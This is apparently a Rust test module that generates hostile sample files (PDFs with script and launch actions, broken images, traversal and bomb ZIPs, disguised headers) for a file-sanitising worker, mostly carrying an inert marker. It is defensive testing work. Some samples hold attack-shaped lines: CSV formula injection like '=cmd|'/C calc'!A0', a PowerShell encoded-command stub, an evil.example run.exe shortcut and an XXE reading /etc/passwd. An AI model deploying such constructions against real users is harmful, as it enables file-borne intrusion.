//! Hostile files, made here, and what they must become in the worker's process.
//!
//! Each sample is a file, and what may not be in what comes out of it. They are made by rule, the same in every run;
//! nothing of them is kept as a file.

use std::io::{Cursor, Write};

use flate2::{Compression, write::DeflateEncoder};
use image::{DynamicImage, ImageFormat, Rgb, RgbImage};
use lopdf::{Document, Object, Stream, dictionary};

/// Bytes that stand for the harm in a sample, and must never come out.
pub(crate) const HARM: &[u8] = b"HARM-c0ffee";

/// The harmless test file that every scanner knows, in two parts so that this file is not taken for one.
pub(crate) fn eicar() -> Vec<u8> {
    [&b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-"[..], b"ANTIVIRUS-TEST-FILE!$H+H*"].concat()
}

/// A hostile file.
pub(crate) struct Sample {
    pub(crate) name: String,
    pub(crate) bytes: Vec<u8>,
    /// Whether it must be refused whole; else it may be, but if not the harm must be gone.
    pub(crate) refused: bool,
}

/// An entry of an archive with its raw name and flags.
pub(crate) struct RawEntry<'a> {
    pub(crate) name: &'a [u8],
    pub(crate) data: &'a [u8],
    pub(crate) flags: u16,
    pub(crate) mode: u32,
}

pub(crate) fn entry<'a>(name: &'a str, data: &'a [u8]) -> RawEntry<'a> {
    RawEntry { name: name.as_bytes(), data, flags: 0, mode: 0 }
}

/// A ZIP file; `offset` moves where all entries are told to begin, for overlapping ones.
pub(crate) fn zip(entries: &[RawEntry<'_>]) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for RawEntry { name, data, flags, mode } in entries {
        let mut encoder = DeflateEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(data).unwrap();
        let packed = encoder.finish().unwrap();
        let mut sum = flate2::Crc::new();
        sum.update(data);
        let start = u32::try_from(out.len()).unwrap();
        let mut common = Vec::from([20, 0]);
        common.extend(flags.to_le_bytes());
        common.extend([8, 0, 0, 0, 0x21, 0]);
        common.extend(sum.sum().to_le_bytes());
        common.extend(u32::try_from(packed.len()).unwrap().to_le_bytes());
        common.extend(u32::try_from(data.len()).unwrap().to_le_bytes());
        common.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
        common.extend([0, 0]);
        out.extend(b"PK\x03\x04");
        out.extend(&common);
        out.extend(*name);
        out.extend(&packed);
        directory.extend(b"PK\x01\x02\x14\x03");
        directory.extend(&common);
        directory.extend([0; 6]);
        directory.extend((mode << 16).to_le_bytes());
        directory.extend(start.to_le_bytes());
        directory.extend(*name);
    }
    finish(out, &directory, entries.len())
}

pub(crate) fn finish(mut out: Vec<u8>, directory: &[u8], count: usize) -> Vec<u8> {
    let start = u32::try_from(out.len()).unwrap();
    out.extend(directory);
    out.extend(b"PK\x05\x06\0\0\0\0");
    out.extend(u16::try_from(count).unwrap().to_le_bytes());
    out.extend(u16::try_from(count).unwrap().to_le_bytes());
    out.extend(u32::try_from(directory.len()).unwrap().to_le_bytes());
    out.extend(start.to_le_bytes());
    out.extend([0, 0]);
    out
}

/// A picture with shades that show where its top left is.
pub(crate) fn picture() -> DynamicImage {
    let shade = |x: u32, y: u32| Rgb([u8::try_from(x * 4).unwrap(), u8::try_from(y * 5).unwrap(), 90]);
    DynamicImage::ImageRgb8(RgbImage::from_fn(60, 40, shade))
}

pub(crate) fn encoded(format: ImageFormat) -> Vec<u8> {
    let mut bytes = Vec::new();
    picture().write_to(&mut Cursor::new(&mut bytes), format).unwrap();
    bytes
}

/// EXIF with orientation 6, a time, and a place (36°33'40" north, 136°39'23" east), and harm as the maker's name.
pub(crate) fn exif() -> Vec<u8> {
    let (mut head, mut tail): (Vec<u8>, Vec<u8>) = (b"MM\0*\0\0\0\x08".to_vec(), Vec::new());
    let rationals = |parts: [u32; 3]| {
        parts.iter().flat_map(|n| [n.to_be_bytes(), 1_u32.to_be_bytes()].concat()).collect()
    };
    let time = b"2026:11:28 05:49:33\0".to_vec();
    type Rows = Vec<(u16, u16, u32, Vec<u8>)>;
    let places: [Vec<u8>; 2] = [rationals([36, 33, 40]), rationals([136, 39, 23])];
    let gps: Rows = vec![
        (1, 2, 2, b"N\0\0\0".to_vec()),
        (2, 5, 3, places[0].clone()),
        (3, 2, 2, b"E\0\0\0".to_vec()),
        (4, 5, 3, places[1].clone()),
    ];
    let first: Rows = vec![
        (0x10f, 2, u32::try_from(HARM.len()).unwrap(), HARM.to_vec()),
        (0x112, 3, 1, vec![0, 6, 0, 0]),
        (0x132, 2, 20, time),
        (0x8825, 4, 1, vec![0; 4]),
    ];
    let length = |rows: &Rows| 2 + 12 * rows.len() + 4;
    let gps_at = 8 + length(&first);
    let mut data_at = gps_at + length(&gps);
    for (rows, is_first) in [(first, true), (gps, false)] {
        head.extend(u16::try_from(rows.len()).unwrap().to_be_bytes());
        for (tag, kind, count, mut value) in rows {
            if tag == 0x8825 && is_first {
                value = u32::try_from(gps_at).unwrap().to_be_bytes().to_vec();
            }
            head.extend([tag.to_be_bytes(), kind.to_be_bytes()].concat());
            head.extend(count.to_be_bytes());
            if value.len() <= 4 {
                head.extend(value);
            } else {
                head.extend(u32::try_from(data_at).unwrap().to_be_bytes());
                data_at += value.len();
                tail.extend(value);
            }
        }
        head.extend([0; 4]);
    }
    head.extend(tail);
    head
}

/// A segment put behind the first marker of a JPEG.
pub(crate) fn with_segment(jpeg: &[u8], marker: u8, data: &[u8]) -> Vec<u8> {
    let length = u16::try_from(data.len() + 2).unwrap().to_be_bytes();
    [&jpeg[..2], &[0xff, marker], &length, data, &jpeg[2..]].concat()
}

/// A PDF of one page; `change` adds what is to be taken out.
pub(crate) fn pdf(change: impl FnOnce(&mut Document, lopdf::ObjectId, lopdf::ObjectId)) -> Vec<u8> {
    let mut document = Document::with_version("1.7");
    let pages = document.new_object_id();
    let font = document
        .add_object(dictionary! { "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica" });
    let content = b"BT /F1 24 Tf 30 60 Td (Kanazawa) Tj ET 0 0.5 0 rg 20 20 100 12 re f".to_vec();
    let content = document.add_object(Stream::new(dictionary! {}, content));
    let page = document.add_object(dictionary! {
        "Type" => "Page", "Parent" => pages, "Contents" => content,
        "MediaBox" => vec![0.into(), 0.into(), 200.into(), 120.into()],
        "Resources" => dictionary! { "Font" => dictionary! { "F1" => font } },
    });
    document.objects.insert(
        pages,
        Object::Dictionary(dictionary! { "Type" => "Pages", "Kids" => vec![page.into()], "Count" => 1 }),
    );
    let root = document.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages });
    document.trailer.set("Root", root);
    change(&mut document, root, page);
    let mut bytes = Vec::new();
    document.save_to(&mut bytes).unwrap();
    bytes
}

fn harm() -> Object {
    Object::string_literal(HARM)
}

/// Actions that must go, each with harm in it.
fn actions() -> Vec<(&'static str, lopdf::Dictionary)> {
    vec![
        ("JavaScript", dictionary! { "S" => "JavaScript", "JS" => harm() }),
        ("Launch", dictionary! { "S" => "Launch", "F" => harm() }),
        ("GoToR", dictionary! { "S" => "GoToR", "F" => harm(), "D" => "x" }),
        ("GoToE", dictionary! { "S" => "GoToE", "F" => harm(), "D" => "x" }),
        ("SubmitForm", dictionary! { "S" => "SubmitForm", "F" => harm() }),
        ("ImportData", dictionary! { "S" => "ImportData", "F" => harm() }),
        ("Rendition", dictionary! { "S" => "Rendition", "JS" => harm() }),
        (
            "file",
            dictionary! { "S" => "URI", "URI" => Object::string_literal([&b"file:///"[..], HARM].concat()) },
        ),
        (
            "user before the machine",
            dictionary! { "S" => "URI", "URI" => Object::string_literal([&b"https://city.example.jp@"[..], HARM].concat()) },
        ),
        (
            "script",
            dictionary! { "S" => "URI", "URI" => Object::string_literal([&b"javascript:"[..], HARM].concat()) },
        ),
        ("unknown", dictionary! { "Type" => "Action", "S" => "Tomorrow", "X" => harm() }),
        (
            "chained",
            dictionary! { "S" => "GoTo", "D" => "x", "Next" => dictionary! { "S" => "JavaScript", "JS" => harm() } },
        ),
    ]
}

fn pdf_samples() -> Vec<(String, Vec<u8>)> {
    let mut samples = Vec::new();
    for (kind, action) in actions() {
        for place in ["open", "page", "link", "outline", "names", "widget"] {
            for direct in [true, false] {
                let bytes = pdf(|document, root, page| {
                    let mut action: Object = action.clone().into();
                    if !direct {
                        action = document.add_object(action).into();
                    }
                    hang(document, root, page, place, action);
                });
                samples.push((format!("{kind} by {place}, direct: {direct}"), bytes));
            }
        }
    }
    let stream = |subtype: &str| {
        Stream::new(dictionary! { "Type" => "EmbeddedFile", "Subtype" => subtype }, HARM.to_vec())
    };
    for subtype in ["FileAttachment", "Sound", "Movie", "Screen", "3D", "RichMedia"] {
        let bytes = pdf(|document, _, page| {
            let file = document.add_object(stream("x"));
            let file =
                dictionary! { "Type" => "Filespec", "F" => "a.exe", "EF" => dictionary! { "F" => file } };
            let rect = vec![0.into(), 0.into(), 9.into(), 9.into()];
            let note = dictionary! { "Type" => "Annot", "Subtype" => subtype, "Rect" => rect, "FS" => file, "X" => harm() };
            let note = document.add_object(note);
            document.get_dictionary_mut(page).unwrap().set("Annots", vec![note.into()]);
        });
        samples.push((format!("annotation {subtype}"), bytes));
    }
    for (flags, kind) in [(2, "Text"), (6, "FreeText"), (32, "Highlight"), (30, "Stamp")] {
        let bytes = pdf(|document, _, page| {
            let rect = vec![0.into(), 0.into(), 9.into(), 9.into()];
            let note = document
                .add_object(dictionary! { "Type" => "Annot", "Subtype" => kind, "Rect" => rect.clone(),
                "F" => flags, "Contents" => harm(), "T" => harm(), "NM" => harm() });
            let window = dictionary! { "Type" => "Annot", "Subtype" => "Popup", "Rect" => rect, "Parent" => note, "T" => harm() };
            let window = document.add_object(window);
            document.get_dictionary_mut(note).unwrap().set("Popup", window);
            document.get_dictionary_mut(page).unwrap().set("Annots", vec![note.into(), window.into()]);
        });
        samples.push((format!("hidden {kind}, flags {flags}"), bytes));
    }
    samples.push((
        "embedded file".to_owned(),
        pdf(|document, root, _| {
            let file = document.add_object(stream("x"));
            let file = document.add_object(
                dictionary! { "Type" => "Filespec", "F" => "a.exe", "EF" => dictionary! { "F" => file } },
            );
            let tree = dictionary! { "Names" => vec!["a".into(), file.into()] };
            document.get_dictionary_mut(root).unwrap().set("Names", dictionary! { "EmbeddedFiles" => tree });
        }),
    ));
    samples.push((
        "XFA".to_owned(),
        pdf(|document, root, _| {
            let xfa = document.add_object(Stream::new(dictionary! {}, HARM.to_vec()));
            document
                .get_dictionary_mut(root)
                .unwrap()
                .set("AcroForm", dictionary! { "Fields" => Vec::<Object>::new(), "XFA" => xfa });
        }),
    ));
    samples.extend(disguised());
    samples.push((
        "nothing leads to it".to_owned(),
        pdf(|document, _, _| {
            document.add_object(Stream::new(dictionary! {}, HARM.to_vec()));
        }),
    ));
    samples
}

/// What says of itself that it is something else than what leads to it takes it for.
fn disguised() -> Vec<(String, Vec<u8>)> {
    let script = |document: &mut Document| {
        let disguise = dictionary! { "Type" => "XObject", "Subtype" => "Image" };
        Object::Reference(document.add_object(Stream::new(disguise, HARM.to_vec())))
    };
    let indirect = |document: &mut Document, name: &str| {
        Object::Reference(document.add_object(Object::Name(name.as_bytes().to_vec())))
    };
    let mut samples = Vec::new();
    let mut add = |name: &str, change: &dyn Fn(&mut Document, lopdf::ObjectId, lopdf::ObjectId)| {
        samples.push((format!("disguised: {name}"), pdf(change)));
    };
    for place in ["open", "page", "link", "outline", "names", "widget"] {
        add(&format!("a part of the structure by {place}"), &|document, root, page| {
            for (kind, key) in [("JavaScript", "JS"), ("Launch", "F"), ("GoToR", "F"), ("SubmitForm", "F")] {
                let value = if key == "JS" { script(document) } else { harm() };
                let action = dictionary! { "S" => kind, "P" => page, "K" => 0, key => value };
                let action = document.add_object(action);
                hang(document, root, page, place, action.into());
            }
        });
        add(&format!("kinds behind references by {place}"), &|document, root, page| {
            let (kind, script) = (indirect(document, "JavaScript"), script(document));
            let action = document.add_object(dictionary! { "S" => kind, "JS" => script });
            hang(document, root, page, place, action.into());
        });
        add(&format!("an address of a file behind references by {place}"), &|document, root, page| {
            let address = Object::string_literal([&b"file:///"[..], HARM].concat());
            let (kind, address) = (indirect(document, "URI"), document.add_object(address));
            let action = document.add_object(dictionary! { "S" => kind, "URI" => address });
            hang(document, root, page, place, action.into());
        });
    }
    for disguise in ["Font", "XObject", "ExtGState", "Pattern"] {
        add(&format!("actions that say they are {disguise}"), &|document, root, page| {
            let script = script(document);
            let action = dictionary! { "S" => "JavaScript", "JS" => script, "P" => page, "K" => 0 };
            let action = document.add_object(action);
            let on_open =
                document.add_object(dictionary! { "Type" => disguise, "O" => action, "JS" => action });
            document.get_dictionary_mut(page).unwrap().set("AA", on_open);
            document.get_dictionary_mut(root).unwrap().set("OpenAction", on_open);
            let resources = document.get_dictionary_mut(page).unwrap().get_mut(b"Resources").unwrap();
            resources.as_dict_mut().unwrap().set("JS", on_open);
        });
    }
    add("an attachment of a kind behind a reference", &|document, _, page| {
        let file = document.add_object(Stream::new(dictionary! {}, HARM.to_vec()));
        let file = dictionary! { "Type" => "Filespec", "F" => "a.exe", "EF" => dictionary! { "F" => file } };
        let kind = indirect(document, "FileAttachment");
        let rect = vec![0.into(), 0.into(), 9.into(), 9.into()];
        let note = document.add_object(dictionary! { "Subtype" => kind, "Rect" => rect, "FS" => file });
        document.get_dictionary_mut(page).unwrap().set("Annots", vec![note.into()]);
    });
    add("data of a stream elsewhere", &|document, _, page| {
        let elsewhere = dictionary! { "F" => harm(), "FFilter" => "FlateDecode" };
        let content = document.add_object(Stream::new(elsewhere, b"q Q".to_vec()));
        document.get_dictionary_mut(page).unwrap().set("Contents", content);
    });
    samples
}

fn hang(document: &mut Document, root: lopdf::ObjectId, page: lopdf::ObjectId, place: &str, action: Object) {
    let rect = || vec![0.into(), 0.into(), 9.into(), 9.into()];
    match place {
        "open" => document.get_dictionary_mut(root).unwrap().set("OpenAction", action),
        "page" => document.get_dictionary_mut(page).unwrap().set("AA", dictionary! { "O" => action }),
        "outline" => {
            let item =
                document.add_object(dictionary! { "Title" => Object::string_literal("x"), "A" => action });
            let outlines = dictionary! { "Type" => "Outlines", "First" => item, "Last" => item };
            document.get_dictionary_mut(root).unwrap().set("Outlines", outlines);
        }
        "names" => {
            let tree = dictionary! { "Names" => vec!["x".into(), action] };
            document.get_dictionary_mut(root).unwrap().set("Names", dictionary! { "JavaScript" => tree });
        }
        _ => {
            let subtype = if place == "link" { "Link" } else { "Widget" };
            let note = document.add_object(dictionary! {
                "Type" => "Annot", "Subtype" => subtype, "Rect" => rect(), "A" => action.clone(),
                "AA" => dictionary! { "E" => action },
            });
            document.get_dictionary_mut(page).unwrap().set("Annots", vec![note.into()]);
        }
    }
}

/// All of them.
pub(crate) fn all() -> Vec<Sample> {
    let mut samples = Vec::new();
    let mut add = |name: String, bytes: Vec<u8>, refused| samples.push(Sample { name, bytes, refused });
    for (name, bytes) in pdf_samples() {
        add(format!("pdf: {name}"), bytes, false);
    }
    for (name, bytes, refused) in crate::office::all().into_iter().chain(crate::odf::all()) {
        add(name, bytes, refused);
    }
    for Sample { name, bytes, refused } in crate::heic::all() {
        add(name, bytes, refused);
    }
    let (jpeg, png) = (encoded(ImageFormat::Jpeg), encoded(ImageFormat::Png));
    let archive = zip(&[entry("a.txt", HARM)]);
    let plain = pdf(|_, _, _| {});

    // Pictures with something beside their pixels, and broken ones.
    for (name, marker) in [("comment", 0xfe), ("XMP", 0xe1), ("IPTC", 0xed), ("application", 0xe5)] {
        add(format!("jpeg: {name}"), with_segment(&jpeg, marker, HARM), false);
    }
    add("jpeg: EXIF".into(), with_segment(&jpeg, 0xe1, &[b"Exif\0\0", exif().as_slice()].concat()), false);
    for format in [ImageFormat::Jpeg, ImageFormat::Png, ImageFormat::Gif, ImageFormat::WebP] {
        let whole = encoded(format);
        add(format!("{format:?}: trailing"), [&whole, HARM].concat(), false);
        add(format!("{format:?}: trailing ZIP"), [whole.as_slice(), &archive].concat(), true);
        for cut in 1..8 {
            add(format!("{format:?}: cut to {cut}/8"), whole[..whole.len() * cut / 8].to_vec(), true);
        }
        for at in (0..whole.len()).step_by(whole.len() / 8) {
            let mut broken = whole.clone();
            broken[at..(at + 8).min(whole.len())].fill(0xff);
            add(format!("{format:?}: broken at {at}"), [&broken, HARM].concat(), false);
        }
    }
    for format in [ImageFormat::Bmp, ImageFormat::Png, ImageFormat::Jpeg] {
        let huge = DynamicImage::new_luma8(1, 1);
        let mut bytes = Vec::new();
        huge.write_to(&mut Cursor::new(&mut bytes), format).unwrap();
        match format {
            ImageFormat::Bmp => {
                [18, 22].iter().for_each(|at| bytes[*at..at + 4].copy_from_slice(&30_000_u32.to_le_bytes()))
            }
            ImageFormat::Png => {
                [16, 20].iter().for_each(|at| bytes[*at..at + 4].copy_from_slice(&30_000_u32.to_be_bytes()));
                let mut sum = flate2::Crc::new();
                sum.update(&bytes[12..29]);
                bytes[29..33].copy_from_slice(&sum.sum().to_be_bytes());
            }
            _ => {
                let at = bytes.windows(2).position(|two| two == [0xff, 0xc0]).unwrap() + 5;
                bytes[at..at + 4].copy_from_slice(&[0x75, 0x30, 0x75, 0x30]);
            }
        }
        add(format!("{format:?}: 30,000 × 30,000"), bytes, true);
    }
    add("gif: a page with its magic".into(), [&b"GIF89a/*<html><script>"[..], HARM].concat(), true);
    add("jpeg: a page with its magic".into(), [&b"\xff\xd8\xff<html><script>"[..], HARM].concat(), true);
    add(
        "png: a PDF in its text".into(),
        [&png[..33], b"\0\0\0\x05tEXt%PDF-\0\0\0\0", &png[33..]].concat(),
        true,
    );

    // Archives.
    let paths: [&[u8]; 12] = [
        b"../x.txt",
        b"a/../../x.txt",
        b"..\\x.txt",
        b"/etc/x.txt",
        b"C:\\x.txt",
        b"C:x.txt",
        b"\\\\host\\x.txt",
        b"a//b.txt",
        b"./x.txt",
        b"con.txt",
        b"a/NUL",
        b"x.txt.",
    ];
    for path in paths {
        let bad = RawEntry { name: path, data: HARM, flags: 0, mode: 0 };
        add(format!("zip: {}", String::from_utf8_lossy(path)), zip(&[bad]), true);
    }
    add("zip: a link".into(), zip(&[RawEntry { mode: 0o120_777, ..entry("x", b"/etc/passwd") }]), true);
    add("zip: a device".into(), zip(&[RawEntry { mode: 0o020_666, ..entry("x", b"") }]), true);
    add("zip: a password".into(), zip(&[RawEntry { flags: 1, ..entry("x.txt", HARM) }]), true);
    add("zip: one name twice".into(), zip(&[entry("x.txt", b"a"), entry("X.TXT", HARM)]), true);
    add("zip: behind something".into(), [HARM, &archive].concat(), true);
    add("zip: behind a PDF".into(), [plain.as_slice(), &archive].concat(), true);
    add(
        "zip: a PDF header between".into(),
        zip(&[RawEntry { name: b"%PDF-1.4.txt", data: HARM, flags: 0, mode: 0 }]),
        true,
    );
    let nothing = vec![0; 20 << 20];
    let bomb = zip(&(0..40)
        .map(|i| format!("{i}.txt"))
        .collect::<Vec<_>>()
        .iter()
        .map(|name| entry(name, &nothing))
        .collect::<Vec<_>>());
    add("zip: a bomb".into(), bomb, true);
    let mut nested = archive.clone();
    for _ in 0..20 {
        nested = zip(&[entry("inner.zip", &nested)]);
    }
    add("zip: 20 deep".into(), nested, true);
    // Its numbers stand where only readers of ZIP64 look, who are not all.
    for field in [8, 10, 12, 16] {
        let mut large = archive.clone();
        let end = large.len() - 22 + field;
        large[end..end + if field < 12 { 2 } else { 4 }].fill(0xff);
        add(format!("zip: ZIP64 by its end at {field}"), large, true);
    }
    for field in [20, 24, 42] {
        let mut large = archive.clone();
        let row = large.windows(4).rposition(|four| four == b"PK\x01\x02").unwrap() + field;
        large[row..row + 4].fill(0xff);
        add(format!("zip: ZIP64 by its entry at {field}"), large, true);
    }
    let mut overlapping = zip(&[entry("a.txt", b"aaaaaaaa"), entry("b.txt", b"aaaaaaaa")]);
    let second = overlapping.windows(4).rposition(|four| four == b"PK\x01\x02").unwrap();
    let name = second + 46;
    overlapping[second + 42..second + 46].fill(0);
    overlapping[name..name + 5].copy_from_slice(b"a.txt");
    overlapping[second - 5..second].copy_from_slice(b"c.txt");
    add("zip: overlapping".into(), overlapping, true);
    for (name, data) in [
        ("a.exe", [&b"MZ\x90\0"[..], HARM].concat()),
        ("a.html", [&b"<html><script>"[..], HARM].concat()),
        ("a.pdf", [&b"MZ\0"[..], HARM].concat()),
    ] {
        add(format!("zip: with {name}"), zip(&[entry(name, &data), entry("b.txt", b"fine")]), false);
    }
    for cut in 1..8 {
        add(format!("zip: cut to {cut}/8"), archive[..archive.len() * cut / 8].to_vec(), true);
    }

    // What is refused by its begin.
    let begins: [(&str, &[u8]); 20] = [
        ("a program", b"MZ\x90\0\x03\0\0\0"),
        ("ELF", b"\x7fELF\x02\x01"),
        ("a shortcut", b"L\0\0\0\x01\x14\x02\0"),
        ("RTF", b"{\\rtf1{\\object\\objdata "),
        ("HTML", b"<!DOCTYPE html><script>"),
        ("HTML by a comment", b"<!-- x --><html>"),
        ("SVG", b"<svg xmlns='http://www.w3.org/2000/svg' onload='"),
        (
            "SVG with an entity",
            b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>",
        ),
        ("MHTML", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n"),
        ("SYLK", b"ID;P\nC;X1;Y1;E"),
        ("PostScript", b"%!PS-Adobe\n"),
        ("a web shortcut", b"[InternetShortcut]\nURL="),
        ("a registry file", b"Windows Registry Editor Version 5.00\n"),
        ("gzip", b"\x1f\x8b\x08\0\0"),
        ("7z", b"7z\xbc\xaf\x27\x1c"),
        ("RAR", b"Rar!\x1a\x07\0"),
        ("HEIC", b"\0\0\0\x18ftypheic"),
        ("a film", b"\0\0\0\x18ftypmp42"),
        ("DWG", b"AC1027\0\0"),
        ("legacy Office", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0V\0B\0A\0"),
    ];
    for (name, begin) in begins {
        add(format!("begins as {name}"), [begin, HARM, b"\0"].concat(), true);
        add(format!("as {name} without a zero"), [begin, HARM].concat(), !matches!(name, "a program"));
    }
    let jww = [&b"JwwData.\x58\x02\0\0CDataSen"[..], &[0; 64], b"\x7fELF", HARM].concat();
    add("jww: a program behind".into(), jww, true);
    let jww = [&b"JwwData.\xe6\0\0\0CDataSen"[..], &[0; 64], b"Rar!\x1a\x07", HARM].concat();
    add("jww: of a version that is not known".into(), jww, true);

    // What something opens and follows, however far behind in a text it stands, and whatever the text is called.
    let far = format!("<!-- {} -->", "x".repeat(9_000));
    let office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0";
    let word = "http://schemas.microsoft.com/office/word/2003/wordml";
    for (name, text) in [
        ("HTML", format!("{far}<html><body><script>")),
        ("a page without a head", "<p>text <img src=x onerror=\"alert(1)\">".to_owned()),
        ("HTA", format!("{far}<hta:application><script language=\"VBScript\">")),
        ("SVG", format!("<?xml version=\"1.0\"?>{far}<svg onload=\"alert(1)\">")),
        (
            "flat OpenDocument",
            format!("<?xml version=\"1.0\"?>{far}<office:document xmlns:office=\"{office}\">"),
        ),
        ("Word 2003", format!("<?xml version=\"1.0\"?>{far}<w:wordDocument xmlns:w=\"{word}\">")),
        (
            "settings that run",
            "<?xml version=\"1.0\"?><PCSettings><SearchableContent/></PCSettings>".to_owned(),
        ),
        ("a batch file", "@echo off\r\npowershell -enc AAAA\r\n".to_owned()),
        ("Visual Basic", "\r\nCreateObject(\"WScript.Shell\").Run \"calc\"\r\n".to_owned()),
        ("a query", "WEB\r\n1\r\nhttp://evil.example/x\r\n".to_owned()),
        ("a link", "\r\n; comment\r\n[InternetShortcut]\r\nURL=file://evil.example/s/run.exe\r\n".to_owned()),
        ("the registry", "\u{feff}\u{feff}REGEDIT4\r\n".to_owned()),
        ("SYLK", "\u{feff}\u{feff}ID;PWXL;N;E\r\n".to_owned()),
        (
            "a mail",
            format!("X-A: {}\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n", "y".repeat(9_000)),
        ),
        (
            "a drawing that is a page",
            "999\r\n<html><script>\r\n  0\r\nSECTION\r\n  2\r\nENTITIES\r\n  0\r\nENDSEC\r\n  0\r\nEOF\r\n"
                .to_owned(),
        ),
        (
            "a model that is a page",
            "ISO-10303-21;\nHEADER;\n/* <html><script> */\nENDSEC;\nDATA;\nENDSEC;\nEND-ISO-10303-21;\n"
                .to_owned(),
        ),
    ] {
        add(format!("text: {name}"), text.into_bytes(), true);
    }
    for cell in ["=cmd|'/C calc'!A0", "+1+cmd", "-2+3+cmd|x", "@SUM(1)", "＝1+1"] {
        add(format!("csv: {cell}"), format!("a,b\r\n{cell},c\r\n").into_bytes(), false);
    }
    samples
}
